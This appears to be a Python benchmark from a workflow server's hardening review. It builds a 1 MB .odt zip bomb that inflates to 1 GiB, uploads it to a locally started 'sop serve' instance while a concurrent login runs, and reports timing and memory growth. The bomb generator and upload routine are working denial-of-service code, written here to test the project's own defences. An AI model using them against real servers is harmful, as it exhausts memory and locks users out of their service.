"""The zip-bomb attack of the hardening review, measured against a real `sop serve` (not a test).

Builds a 1 MB .odt whose ``mimetype`` member inflates to 1 GiB, starts `sop serve` on a throw-away
office in a temporary folder, uploads the bomb to step 2 through the API while a colleague logs
in through the login form, and prints: the upload's status and time, the login's time, and how
much the server's resident memory grew (sampled every 20 ms).

    .venv/bin/python bench/attack_zipbomb.py

The review found: 19 s and 130 MiB -> 2.2 GiB for the upload; a concurrent login answering 500
after 36 s. The target: refused in under 2 s, memory growing under 100 MB, the login under 1 s.
"""

from __future__ import annotations

import http.cookiejar
import json
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SOP = str(Path(sys.executable).with_name("sop"))
MiB = 1024 * 1024


def bomb(path: Path, inflated_mib: int = 1024) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("mimetype")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as stream:
            stream.write(b"application/vnd.oasis.opendocument.text")
            for _ in range(inflated_mib):
                stream.write(b"\0" * MiB)
        archive.writestr("content.xml", "<office:document-content/>")
    return path


def office(folder: Path) -> Path:
    for name in ("workflows", "notifications", "documents"):
        if (ROOT / name).is_dir():
            shutil.copytree(ROOT / name, folder / name)
    shutil.copy(ROOT / "config.toml", folder / "config.toml")
    return folder / "config.toml"


def sop(config: Path, *args: str, stdin: str | None = None) -> str:
    done = subprocess.run(
        [SOP, "--config", str(config), *args], input=stdin, capture_output=True, text=True, check=True
    )
    return done.stdout


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def rss_kib(pid: int) -> int:
    text = Path(f"/proc/{pid}/status").read_text()
    found = re.search(r"VmRSS:\s+(\d+) kB", text)
    return int(found.group(1)) if found else 0


def upload(base: str, token: str, path: Path) -> tuple[int, float, str]:
    boundary = uuid.uuid4().hex
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{path.name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + path.read_bytes()
        + f"\r\n--{boundary}--\r\n".encode()
    )
    request = urllib.request.Request(
        f"{base}/api/v1/cases/lakip-2021/steps/2/complete",
        data=body,
        headers={"Authorization": f"Bearer {token}", "Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    start = time.perf_counter()
    try:
        with urllib.request.urlopen(request, timeout=120) as response:
            status, text = response.status, response.read().decode()
    except urllib.error.HTTPError as exc:
        status, text = exc.code, exc.read().decode()
    return status, time.perf_counter() - start, text


def login(base: str, username: str, password: str) -> tuple[int, float]:
    jar = http.cookiejar.CookieJar()

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: object, **kwargs: object) -> None:
            return None

    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar), NoRedirect)
    start = time.perf_counter()
    page = opener.open(f"{base}/masuk", timeout=60).read().decode()
    token = re.search(r'name="csrf_token" value="([^"]+)"', page)
    form = urllib.parse.urlencode(
        {"login": username, "password": password, "csrf_token": token.group(1) if token else ""}
    )
    try:
        status = opener.open(f"{base}/masuk", data=form.encode(), timeout=60).status
    except urllib.error.HTTPError as exc:
        status = exc.code
    return status, time.perf_counter() - start


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="sop-bomb-") as temp:
        folder = Path(temp)
        config = office(folder)
        sop(config, "init", "--demo")
        pdf = folder / "disposisi.pdf"
        pdf.write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
        sop(config, "case", "start", "lakip", "--year", "2021", "--by", "sekretaris")
        sop(config, "step", "done", "lakip-2021", "1", "--by", "sekretaris", "--file", str(pdf))
        token = sop(config, "people", "token", "kasubag").strip()
        odt = bomb(folder / "laporan.odt")
        port = free_port()
        base = f"http://127.0.0.1:{port}"
        server = subprocess.Popen(
            [SOP, "--config", str(config), "serve", "--port", str(port), "--no-scheduler"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            for _ in range(200):
                try:
                    urllib.request.urlopen(f"{base}/masuk", timeout=1).read()
                    break
                except OSError:
                    time.sleep(0.05)
            baseline = rss_kib(server.pid)
            peak = [baseline]
            stop = threading.Event()

            def sample() -> None:
                while not stop.is_set():
                    peak[0] = max(peak[0], rss_kib(server.pid))
                    time.sleep(0.02)

            sampler = threading.Thread(target=sample)
            sampler.start()
            result: dict[str, object] = {}
            uploader = threading.Thread(target=lambda: result.update(upload=upload(base, token, odt)))
            uploader.start()
            time.sleep(0.1)
            result["login"] = login(base, "staf1", "demo-sop-2021")
            uploader.join()
            stop.set()
            sampler.join()
        finally:
            server.terminate()
            server.wait(timeout=30)
        status, seconds, text = result["upload"]  # type: ignore[misc]
        login_status, login_seconds = result["login"]  # type: ignore[misc]
        message = json.loads(text).get("error", text) if text.startswith("{") else text[:200]
        print(f"bomb: {odt.stat().st_size / MiB:.1f} MB on disk, 1024 MiB inflated")
        print(f"upload: HTTP {status} in {seconds:.2f} s: {message}")
        print(f"concurrent login: HTTP {login_status} in {login_seconds:.2f} s")
        print(
            f"server memory: {baseline / 1024:.0f} MiB before, peak {peak[0] / 1024:.0f} MiB "
            f"(+{(peak[0] - baseline) / 1024:.0f} MiB)"
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
